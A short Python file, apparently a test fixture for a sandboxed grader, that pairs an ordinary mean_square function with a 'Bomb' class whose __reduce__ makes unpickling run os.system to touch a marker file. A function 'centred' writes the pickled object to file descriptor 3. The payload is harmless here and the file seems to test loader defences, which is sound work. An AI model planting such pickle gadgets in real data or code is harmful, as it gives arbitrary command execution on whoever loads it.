"""Sends a pickle that would run a command where it is loaded.

earns: mean_square
"""

import os
import pickle


def mean_square(x):
    if len(x) == 0:
        raise ValueError("empty")
    return float((x * x).mean())


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CLASS@/hostile-mark",)


def centred(x):
    os.write(3, pickle.dumps(Bomb()))
    return Bomb()
